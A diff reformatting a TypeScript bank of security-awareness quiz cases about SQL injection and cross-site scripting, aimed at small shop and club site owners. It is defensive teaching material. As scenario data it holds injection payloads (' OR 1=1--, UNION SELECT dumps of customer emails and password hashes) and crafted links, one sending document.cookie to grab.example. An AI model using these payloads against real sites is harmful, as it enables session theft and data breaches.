@@ -11,7 +11,10 @@ export const WEB_ATTACK_CASES: readonly BankCase[] = [
     context: 'You own a small online shop. Your freelance developer explains the new login page.',
     body: [],
     lines: [
-      { speaker: 'Developer', text: 'Login is done! It takes what the user types and adds it straight into the SQL: SELECT * FROM users WHERE name = \'<typed name>\' AND pass = \'<typed password>\'.' },
+      {
+        speaker: 'Developer',
+        text: "Login is done! It takes what the user types and adds it straight into the SQL: SELECT * FROM users WHERE name = '<typed name>' AND pass = '<typed password>'.",
+      },
       { speaker: 'Developer', text: 'Simple and fast. Nobody would type anything weird in a login box.' },
     ],
     question: 'Is this safe to put live?',
@@ -27,11 +30,11 @@ export const WEB_ATTACK_CASES: readonly BankCase[] = [
     defenseIds: ['InputValidation', 'NetworkMonitoring'],
     medium: 'web-page',
     difficulty: 1,
-    context: 'A customer emails you a screenshot of your shop\'s search page.',
+    context: "A customer emails you a screenshot of your shop's search page.",
     link: 'https://bushveld-biltong.example/search?q=%27%20OR%201%3D1--',
     body: [
-      'Search results for: \' OR 1=1--',
-      'Database error: You have an error in your SQL syntax near \'\' OR 1=1--\' at line 1',
+      "Search results for: ' OR 1=1--",
+      "Database error: You have an error in your SQL syntax near '' OR 1=1--' at line 1",
       'Showing 4,812 customer records',
     ],
     question: 'What do you do?',
@@ -47,11 +50,14 @@ export const WEB_ATTACK_CASES: readonly BankCase[] = [
     defenseIds: ['InputValidation', 'PrincipleOfLeastPrivilege'],
     medium: 'chat',
     difficulty: 2,
-    context: 'You asked a second developer to review your shop\'s code before launch.',
+    context: "You asked a second developer to review your shop's code before launch.",
     body: [],
     lines: [
       { speaker: 'Reviewer', text: 'Good news: every query uses parameters, so typed text is never read as SQL.' },
-      { speaker: 'Reviewer', text: 'Inputs are checked against what each field allows, and the shop\'s database user can only read and write its own tables.' },
+      {
+        speaker: 'Reviewer',
+        text: "Inputs are checked against what each field allows, and the shop's database user can only read and write its own tables.",
+      },
     ],
     question: 'Is this a sound setup?',
     choices: [
@@ -71,9 +77,7 @@ export const WEB_ATTACK_CASES: readonly BankCase[] = [
     to: 'you@mailbox.example',
     subject: 'Your 50% voucher is waiting',
     link: 'https://shopwise.example/search?q=%3Cscript%20src%3D%2F%2Fcdn-stats.example%2Fs.js%3E%3C%2Fscript%3E',
-    body: [
-      'Click below to see your personal voucher on Shopwise. You may need to sign in again.',
-    ],
+    body: ['Click below to see your personal voucher on Shopwise. You may need to sign in again.'],
     question: 'The link starts with shopwise.example. What do you do?',
     choices: [
       { id: 'a', label: 'Click: the link goes to the real Shopwise site' },
@@ -87,7 +91,7 @@ export const WEB_ATTACK_CASES: readonly BankCase[] = [
     defenseIds: ['InputValidation'],
     medium: 'web-page',
     difficulty: 2,
-    context: 'You moderate comments on your club\'s website. A new comment waits for approval.',
+    context: "You moderate comments on your club's website. A new comment waits for approval.",
     link: 'https://hiking-club.example/admin/comments/871',
     body: [
       'From: "Trail Fan"',
@@ -106,11 +110,17 @@ export const WEB_ATTACK_CASES: readonly BankCase[] = [
     defenseIds: ['InputValidation'],
     medium: 'chat',
     difficulty: 2,
-    context: 'You run the club\'s website and asked the developer how comments are shown.',
+    context: "You run the club's website and asked the developer how comments are shown.",
     body: [],
     lines: [
-      { speaker: 'Developer', text: 'The site escapes everything people type before showing it, so <script> shows up as text and never runs.' },
-      { speaker: 'Developer', text: 'On top of that we send a Content-Security-Policy that only allows our own scripts.' },
+      {
+        speaker: 'Developer',
+        text: 'The site escapes everything people type before showing it, so <script> shows up as text and never runs.',
+      },
+      {
+        speaker: 'Developer',
+        text: 'On top of that we send a Content-Security-Policy that only allows our own scripts.',
+      },
     ],
     question: 'Is this a sound setup?',
     choices: [
@@ -132,7 +142,7 @@ export const WEB_ATTACK_CASES: readonly BankCase[] = [
     link: 'https://cartpress.example/security/2026-03',
     body: [
       'Version 7.4.2 fixes an SQL injection flaw in the coupon field of versions 7.0 to 7.4.1. We have seen attempts to use it.',
-      'Update from your shop\'s admin panel (Updates, then CartPress). Nothing needs downloading from this email.',
+      "Update from your shop's admin panel (Updates, then CartPress). Nothing needs downloading from this email.",
     ],
     question: 'What do you do?',
     choices: [
@@ -151,7 +161,10 @@ export const WEB_ATTACK_CASES: readonly BankCase[] = [
     from: 'Developer',
     body: [],
     lines: [
-      { speaker: 'Developer', text: 'Fixed! I now strip the words SELECT, DROP and OR out of whatever people type in the search box.' },
+      {
+        speaker: 'Developer',
+        text: 'Fixed! I now strip the words SELECT, DROP and OR out of whatever people type in the search box.',
+      },
       { speaker: 'Developer', text: 'So nobody can inject anything any more. The queries themselves are unchanged.' },
     ],
     question: 'Is the hole closed?',
@@ -170,8 +183,8 @@ export const WEB_ATTACK_CASES: readonly BankCase[] = [
     context: 'You run a small online shop. This is your web log for last night.',
     link: 'https://bushveld-biltong.example/admin/logs/2026-03-14',
     body: [
-      '02:11 GET /search?q=\' UNION SELECT email, password_hash FROM customers-- → 200, 1.8 MB',
-      '02:12 GET /search?q=\' UNION SELECT name, phone, address FROM customers-- → 200, 2.3 MB',
+      "02:11 GET /search?q=' UNION SELECT email, password_hash FROM customers-- → 200, 1.8 MB",
+      "02:12 GET /search?q=' UNION SELECT name, phone, address FROM customers-- → 200, 2.3 MB",
       'A normal search reply is about 20 KB.',
     ],
     question: 'What do you do?',
@@ -187,14 +200,12 @@ export const WEB_ATTACK_CASES: readonly BankCase[] = [
     defenseIds: ['InputValidation', 'UserEducation'],
     medium: 'email',
     difficulty: 3,
-    context: 'Tuesday 10:00, the support inbox of your shop. You are signed in to the shop\'s admin.',
+    context: "Tuesday 10:00, the support inbox of your shop. You are signed in to the shop's admin.",
     from: 'Karen P <karenp@mailbox.example>',
     to: 'support@bushveld-biltong.example',
     subject: 'Your search page shows an error',
     link: 'https://bushveld-biltong.example/search?q=%3Cscript%3Efetch(%27https%3A%2F%2Fgrab.example%2F%3Fc%3D%27%2Bdocument.cookie)%3C%2Fscript%3E',
-    body: [
-      'Hi, when I search your shop it shows something weird. Can you click my link and see what I mean? Thanks!',
-    ],
+    body: ['Hi, when I search your shop it shows something weird. Can you click my link and see what I mean? Thanks!'],
     question: 'The link goes to your own shop. What do you do?',
     choices: [
       { id: 'a', label: 'Click it: it goes to your own shop' },
@@ -212,7 +223,10 @@ export const WEB_ATTACK_CASES: readonly BankCase[] = [
     from: 'Developer',
     body: [],
     lines: [
-      { speaker: 'Developer', text: 'The banner shows the member\'s display name. I put it in with innerHTML so people can use bold and emojis in their names.' },
+      {
+        speaker: 'Developer',
+        text: "The banner shows the member's display name. I put it in with innerHTML so people can use bold and emojis in their names.",
+      },
       { speaker: 'Developer', text: 'Names come from the sign-up form, which anyone can fill in.' },
     ],
     question: 'Is this safe?',
@@ -228,12 +242,18 @@ export const WEB_ATTACK_CASES: readonly BankCase[] = [
     defenseIds: ['InputValidation'],
     medium: 'chat',
     difficulty: 2,
-    context: 'Your club\'s website. A member writes in through the feedback form.',
+    context: "Your club's website. A member writes in through the feedback form.",
     from: 'Feedback',
     body: [],
     lines: [
-      { speaker: 'Member', text: 'I typed <b>Great hike!</b> in my comment and the page shows the tags as text instead of bold. Please fix it so HTML works!' },
-      { speaker: 'Developer', text: 'That\'s the site escaping what people type, on purpose. I could add a small, safe bold and italics button instead.' },
+      {
+        speaker: 'Member',
+        text: 'I typed <b>Great hike!</b> in my comment and the page shows the tags as text instead of bold. Please fix it so HTML works!',
+      },
+      {
+        speaker: 'Developer',
+        text: "That's the site escaping what people type, on purpose. I could add a small, safe bold and italics button instead.",
+      },
     ],
     question: 'What do you do?',
     choices: [
